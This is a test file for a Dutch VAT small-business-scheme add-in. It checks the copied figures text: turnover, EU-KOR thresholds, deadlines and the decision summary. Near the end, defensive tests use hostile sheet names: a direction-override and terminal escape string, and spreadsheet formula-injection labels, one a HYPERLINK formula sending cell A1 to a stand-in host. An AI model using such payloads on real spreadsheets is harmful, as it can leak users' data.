/** "Cijfers kopiëren" in every view: the text a bookkeeper pastes into a note for the client. */
import { decisionFiguresText, figuresText, overviewFiguresText } from "../../src/taskpane/copyText";
import { analyze } from "../../src/taskpane/model";
import { sampleSource } from "../../src/taskpane/browser/files";
import { adviceOf } from "../../src/rules/advice";
import { buildOverview, type CheckedUnit } from "../../src/bulk/overview";
import { EMPTY_GROUPING } from "../../src/bulk/groups";
import { dayFromIso } from "../../src/rules/dates";
import { summarizeYear } from "../../src/rules/summary";
import { readTable } from "../../src/reading/headers";
import { sheet } from "../rules/helpers";

const TODAY = dayFromIso("2026-11-27");

describe("figuresText (year report)", () => {
  const a = analyze(sampleSource(), {}, TODAY);
  const text = figuresText(a.summary, "nl", { sourceName: "Facturen", today: TODAY, reconciliation: a.reconciliation });
  it("starts with the verdict and the action, then the turnover that counts", () => {
    const lines = text.split("\n");
    expect(lines[0]).toBe("KOR-overzicht — Facturen — 27 november 2026");
    expect(lines[2]).toBe(adviceOf(a.summary).finding.nl);
    expect(text).toContain("Omzet die meetelt 2026: ");
  });
  it("carries the EU-KOR figures per member state, as the EU section shows them", () => {
    expect(text).toContain("EU-KOR (omzet in andere EU-landen)");
    // With last year's Union turnover, as the EU section shows it beside the verdict.
    expect(text).toMatch(/^Omzet in de hele EU: € [\d.,]+ \(grens € 100\.000,00\) · Binnen de EU-grens · Vorig jaar: € [\d.,]+$/m);
    for (const st of a.summary.eu!.states) expect(text).toMatch(new RegExp(`^${st.country}: € `, "m"));
  });
});

describe("figuresText after a crossing that later credit notes bring back within the limit", () => {
  it("has the caveat right under the finding (kor-rules.md section 5)", () => {
    const rows = [[45689, 19000], [45787, 1500], [45797, -1500]]; // 1 Feb, 10 May, 20 May 2025
    const s = summarizeYear(readTable([["Datum", "Bedrag"], ...rows]).rows, { today: dayFromIso("2025-06-01"), year: 2025, previousYearCents: 0 });
    const lines = figuresText(s, "en", { sourceName: "Sheet1", today: dayFromIso("2025-06-01") }).split("\n");
    expect(lines[2]).toBe("Turnover limit crossed on 10 May 2025, row 3");
    expect(lines[3]).toBe("Later credit notes bring the 2025 total back to €19,000.00; that does not undo the crossing. But if a credit note cancels an invoice that was wrong (not a later discount or return), the limit may never have been crossed: check that invoice.");
  });
});

describe("figuresText after an EU crossing", () => {
  it("gives the notify-by date with how it is counted (Mon–Fri, public holidays not skipped)", () => {
    const rows = [[46054, 60000, "buitenland", "BE"], [46371, 50000, "buitenland", "AT"]]; // 1 Feb, 15 Dec 2026
    const s = summarizeYear(readTable([["Datum", "Bedrag", "Categorie", "Land"], ...rows]).rows, { today: TODAY, year: 2026 });
    expect(figuresText(s, "nl", { sourceName: "Blad1", today: TODAY }).split("\n")).toContain(
      "De EU-omzet kwam op 15 december 2026 (rij 3) boven de EU-grens: de vrijstelling van de EU-KOR vervalt vanaf die levering in elke lidstaat waar u die gebruikt, en in 2027 kunt u de EU-KOR niet gebruiken. Meld dit uiterlijk 5 januari 2027 bij de Belastingdienst (15 werkdagen, geteld als ma–vr; feestdagen zijn niet overgeslagen, dus mogelijk eerder dan nodig). Voor de Nederlandse KOR verandert hierdoor niets.",
    );
    expect(figuresText(s, "en", { sourceName: "Sheet1", today: TODAY }).split("\n")).toContain(
      "Union turnover went over the Union threshold on 15 December 2026 (row 3): the EU-KOR exemption ends as of that supply in every member state where you use it, and you cannot use the EU-KOR in 2027. Report this to the Belastingdienst by 5 January 2027 (15 working days, counted Mon–Fri; public holidays are not skipped, so possibly earlier than needed). The Dutch KOR is not affected by this.",
    );
  });
});

describe("figuresText: the Union line says why it is not within (kor-rules.md section 7)", () => {
  it("last year's crossing undone by a credit note, not a bare 'over' beside €98,000.01; an overdue report says so", () => {
    // 2025: DE €100,000.01 on 3 Mar, −€2,000 on 2 Jun; 2026: HR €1,000 on 2 Feb.
    const rows = [[45719, 100000.01, "buitenland", "DE"], [45810, -2000, "buitenland", "DE"], [46055, 1000, "buitenland", "HR"]];
    const s = summarizeYear(readTable([["Datum", "Bedrag", "Categorie", "Land"], ...rows]).rows, { today: TODAY, year: 2026 });
    expect(figuresText(s, "en", { sourceName: "Sheet1", today: TODAY }).split("\n")).toContain(
      "Union turnover: €1,000.00 (threshold €100,000.00) · blocked in 2026: Union turnover went over €100,000.00 on 3 March 2025; credit notes after it do not undo that, but check whether a credit note cancels a wrong invoice (not a later discount or return): the limit may then never have been crossed · Previous year: €98,000.01",
    );
    const crossed = [[46091, 100000.01, "buitenland", "BE"]]; // 10 Mar 2026; today 27 Nov 2026
    const c = summarizeYear(readTable([["Datum", "Bedrag", "Categorie", "Land"], ...crossed]).rows, { today: TODAY, year: 2026 });
    expect(figuresText(c, "en", { sourceName: "Sheet1", today: TODAY })).toContain(
      "Report this to the Belastingdienst by 31 March 2026 (15 working days, counted Mon–Fri; public holidays are not skipped, so possibly earlier than needed); that day has passed: if you have not reported it yet, it is overdue: report it now.",
    );
  });
});

describe("figuresText: a state line whose status does not follow from this year's figure says why (kor-rules.md section 7)", () => {
  it("AT €51,000 over since its crossing at row 3, BE €0 blocked by 2025's €27,000", () => {
    // 1 May 2025 BE €27,000; 12 May 2026 AT €61,000; 1 Jun 2026 AT credit note −€10,000.
    const rows = [[45778, 27000, "buitenland", "BE"], [46154, 61000, "buitenland", "AT"], [46174, -10000, "buitenland", "AT"]];
    const s = summarizeYear(readTable([["Datum", "Bedrag", "Categorie", "Land"], ...rows]).rows, { today: TODAY, year: 2026 });
    const en = figuresText(s, "en", { sourceName: "Sheet1", today: TODAY }).split("\n");
    expect(en).toContain("AT: €51,000.00 (threshold €55,000.00) · over: turnover went over €60,500.00 (the threshold of €55,000.00 plus the 10% tolerance AT allows) on 12 May 2026 (row 3); credit notes after it do not undo that, but check whether a credit note cancels a wrong invoice (not a later discount or return): the limit may then never have been crossed");
    expect(en).toContain("BE: €0.00 (threshold €25,000.00) · blocked: 2025 turnover in BE of €27,000.00 was over €25,000.00");
    expect(figuresText(s, "nl", { sourceName: "Blad1", today: TODAY }).split("\n")).toContain("BE: € 0,00 (grens € 25.000,00) · uitgesloten: omzet in BE in 2025 was € 27.000,00, boven de grens van € 25.000,00");
  });

  it("BE over last year AND crossed this year (12 May 2026, row 4) names both", () => {
    // 1 May 2025 BE €27,000; 2 Feb 2026 BE €20,000; 12 May 2026 BE €6,000 (over €25,000 again).
    const rows = [[45778, 27000, "buitenland", "BE"], [46055, 20000, "buitenland", "BE"], [46154, 6000, "buitenland", "BE"]];
    const s = summarizeYear(readTable([["Datum", "Bedrag", "Categorie", "Land"], ...rows]).rows, { today: TODAY, year: 2026 });
    expect(figuresText(s, "en", { sourceName: "Sheet1", today: TODAY }).split("\n")).toContain(
      "BE: €26,000.00 (threshold €25,000.00) · blocked: 2025 turnover in BE of €27,000.00 was over €25,000.00; in 2026 turnover also went over €25,000.00 on 12 May 2026 (row 4)",
    );
    expect(figuresText(s, "nl", { sourceName: "Blad1", today: TODAY }).split("\n")).toContain(
      "BE: € 26.000,00 (grens € 25.000,00) · uitgesloten: omzet in BE in 2025 was € 27.000,00, boven de grens van € 25.000,00; in 2026 kwam de omzet ook op 12 mei 2026 (rij 4) boven € 25.000,00",
    );
  });
});

describe("decisionFiguresText", () => {
  it("states the result first, then one-offs, reasons and deadlines", () => {
    const text = decisionFiguresText("en", {
      sourceName: "Sheet1",
      today: TODAY,
      question: { nl: "Effect van meedoen per jaar", en: "Effect of joining per year" },
      result: "gain €312.00 a year",
      headline: { nl: "x", en: "Joining keeps €312.00 a year." },
      breakEven: { nl: "y", en: "It pays while input VAT stays under €500.00." },
      oneOffs: [{ year: 2027, label: { nl: "herziening", en: "revision" }, cents: 12_345 }],
      reasons: [{ nl: "r", en: "A reason." }],
      deadlines: [{ nl: "d", en: "Register by 3 December 2026." }],
    });
    expect(text.split("\n").slice(0, 5)).toEqual([
      "KOR report — Sheet1 — 27 November 2026",
      "",
      "Effect of joining per year: gain €312.00 a year",
      "Joining keeps €312.00 a year.",
      "It pays while input VAT stays under €500.00.",
    ]);
    expect(text).toContain("2027: revision €123.45");
    expect(text).toContain("• Register by 3 December 2026.");
    // Pasted into a sheet, no line is a formula (a list line starting "- " would be).
    for (const line of text.split("\n")) expect(line).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("says right under the result that it is provisional when rows with errors were left out", () => {
    const text = decisionFiguresText("en", {
      sourceName: "Sheet1",
      today: TODAY,
      question: { nl: "Effect van meedoen per jaar", en: "Effect of joining per year" },
      result: "Gain €2,100.00 a year",
      provisional: { nl: "Voorlopig: …", en: "Provisional: 2 rows with errors not counted (€5,000.00 and 1 unreadable amount)." },
      headline: { nl: "x", en: "Joining the KOR gains you about €2,100.00 a year." },
      breakEven: { nl: "y", en: "Break-even." },
      oneOffs: [],
      reasons: [],
      deadlines: [],
    });
    expect(text.split("\n").slice(2, 4)).toEqual(["Effect of joining per year: Gain €2,100.00 a year", "Provisional: 2 rows with errors not counted (€5,000.00 and 1 unreadable amount)."]);
  });
});

describe("overviewFiguresText (All sheets)", () => {
  it("one line per sheet with the overview's columns", () => {
    const values = [["Datum", "Bedrag"], [46054, 15000], [46300, 6000]];
    const t = readTable(values);
    const unit: CheckedUnit = { id: "s1", sheet: "Winkel", table: null, rows: t.rows, problems: t.problems };
    const lines = buildOverview([unit], EMPTY_GROUPING, { today: TODAY });
    const text = overviewFiguresText(lines, "nl", TODAY);
    expect(text.split("\n")[0]).toBe("KOR-overzicht — Alle bladen — 27 november 2026");
    expect(text).toMatch(/^Winkel — Jaar: 2026; Omzet die meetelt: € 21\.000,00; /m);
    expect(summarizeYear(t.rows, { today: TODAY, year: 2026 }).crossing).not.toBeNull();
  });
});

describe("copied figures with hostile names from the client's files", () => {
  const values = [["Datum", "Bedrag"], [46054, 15000], [46300, 6000]];
  const t = readTable(values);
  const unitNamed = (sheet: string): CheckedUnit => ({ id: "s1", sheet, table: null, rows: t.rows, problems: t.problems });

  it("shows a direction override or an escape sequence in a sheet name as \\u202E, \\u001B: pasted, it cannot reverse or hide the line", () => {
    const name = "Omzet\u202E5202\u001B[2J";
    const s = summarizeYear(t.rows, { today: TODAY, year: 2026 });
    const texts = [
      figuresText(s, "nl", { sourceName: name, today: TODAY, previousYearSheet: name }),
      overviewFiguresText(buildOverview([unitNamed(name)], EMPTY_GROUPING, { today: TODAY }), "nl", TODAY),
    ];
    for (const text of texts) {
      expect(text).not.toMatch(/[\u001B\u202E]/);
      expect(text).toContain("Omzet\\u202E5202\\u001B[2J");
    }
  });
});

describe("copied All sheets lines pasted into a sheet", () => {
  it.each(['=HYPERLINK("http://x.test/?"&A1,"klik")', "-2025", "@SUM(A1)", "+31 Amsterdam"])("start with a quote when the label is %j: each line is a cell, and stays text", (label) => {
    const t = readTable([["Datum", "Bedrag"], [46054, 15000]]);
    const lines = buildOverview([{ id: "s1", sheet: label, table: null, rows: t.rows, problems: t.problems }], EMPTY_GROUPING, { today: TODAY });
    const line = overviewFiguresText(lines, "nl", TODAY).split("\n")[2];
    expect(line.startsWith(`'${label} — Jaar: 2026;`)).toBe(true);
  });
});

describe("Cijfers kopiëren: the EU-KOR's previous year", () => {
  it("labels last year's Union turnover as assumed when no row of that year is there, and gives the figure when one is", () => {
    const only2026 = summarizeYear(sheet(["2026-03-01", 4_000, "buitenland", { country: "BE" }]), { today: TODAY });
    expect(only2026.eu?.previousUnionBasis).toBe("assumed-zero");
    expect(figuresText(only2026, "nl", { sourceName: "Blad1", today: TODAY })).toContain("· Vorig jaar: € 0,00 aangenomen (geen gegevens)");
    expect(figuresText(only2026, "en", { sourceName: "Sheet1", today: TODAY })).toContain("· Previous year: €0.00 assumed (no data)");
    const both = summarizeYear(sheet(["2025-03-01", 2_000, "buitenland", { country: "DE" }], ["2026-03-01", 4_000, "buitenland", { country: "BE" }]), { today: TODAY, year: 2026 });
    expect(both.eu?.previousUnionBasis).toBe("data");
    const text = figuresText(both, "en", { sourceName: "Sheet1", today: TODAY });
    expect(text).toContain("· Previous year: €2,000.00");
    expect(text).not.toContain("assumed (no data)");
  });
});

describe("figuresText with a previous year typed for a year before 2025", () => {
  it("shows the figure as entered, saying it does not decide the year (was left out: 'niet nodig vóór 2025')", () => {
    const rows = [[45352, 5000]]; // 1 Mar 2024
    const s = summarizeYear(readTable([["Datum", "Bedrag"], ...rows]).rows, { today: dayFromIso("2024-06-01"), year: 2024, previousYearCents: 2_500_000 });
    const text = figuresText(s, "nl", { sourceName: "Blad1", today: dayFromIso("2024-06-01") });
    expect(text).toContain("Omzet die meetelt 2023: € 25.000,00 (door u ingevuld; beslist 2024 niet)");
    expect(figuresText(s, "en", { sourceName: "Sheet1", today: dayFromIso("2024-06-01") })).toContain("Turnover that counts 2023: €25,000.00 (entered by you; it does not decide 2024)");
  });
});
